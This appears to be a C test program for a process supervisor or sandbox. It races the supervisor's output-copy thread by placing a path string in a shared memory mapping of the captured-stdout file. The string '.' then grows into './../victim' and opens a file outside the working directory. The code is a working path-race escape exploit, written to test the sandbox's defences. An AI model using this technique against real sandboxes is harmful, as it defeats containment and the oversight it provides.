/* The output-copy variant of the path race (tests/check_files.c): the
 * path string lies in a shared mapping of the file the supervisor's own
 * output-copy thread writes the program's captured stdout to.
 *
 *   capture_race FILE N
 *
 * FILE is where the captured stdout goes. Each attempt writes "." to
 * stdout and waits until it is in FILE (the byte after it reads as '\0':
 * past the end of the file), then writes "/../victim\0" to stdout -- still
 * in the pipe -- and at once opens the mapped "." for writing: whatever
 * the copy thread appends before the kernel reads the path turns it into
 * "./../victim", outside the working directory. Prints how many opens
 * worked; exits 0.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAP_LEN (4u << 20)

static off_t size_of(int fd)
{
	struct stat st;
	return fstat(fd, &st) == 0 ? st.st_size : -1;
}

/* Wait (bounded: 5 s) until the copy thread has put `size` bytes in. */
static int wait_size(int fd, off_t size)
{
	struct timespec t0, t;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	while (size_of(fd) < size) {
		sched_yield();
		clock_gettime(CLOCK_MONOTONIC, &t);
		if (t.tv_sec - t0.tv_sec > 5)
			return -1;
	}
	return 0;
}

static void out(const char *s, size_t n)
{
	if (write(1, s, n) != (ssize_t)n)
		_exit(3);
}

int main(int argc, char **argv)
{
	static const char tail[] = "/../victim";
	int fd = argc >= 2 ? open(argv[1], O_RDONLY | O_CLOEXEC) : -1;
	long n = argc >= 3 ? atol(argv[2]) : 1000, worked = 0;
	char *map;

	if (fd < 0) {
		fprintf(stderr, "open: %s\n", strerror(errno));
		return 2;
	}
	map = mmap(NULL, MAP_LEN, PROT_READ, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED) {
		fprintf(stderr, "mmap: %s\n", strerror(errno));
		return 2;
	}
	for (long i = 0; i < n; i++) {
		off_t o = size_of(fd);
		/* The whole string in the page of its first byte. */
		while (o % 4096 > 4096 - 32) {
			out("#", 1);
			if (wait_size(fd, ++o) < 0)
				return 4;
		}
		if (o + 32 > (off_t)MAP_LEN)
			break;
		out(".", 1);
		if (wait_size(fd, o + 1) < 0)
			return 4;
		out(tail, sizeof(tail)); /* with its NUL */
		int w = open(map + o, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		if (w >= 0) {
			worked++;
			close(w);
		}
		if (wait_size(fd, o + 1 + (off_t)sizeof(tail)) < 0)
			return 4;
	}
	fprintf(stderr, "opened %ld of %ld\n", worked, n);
	return 0;
}
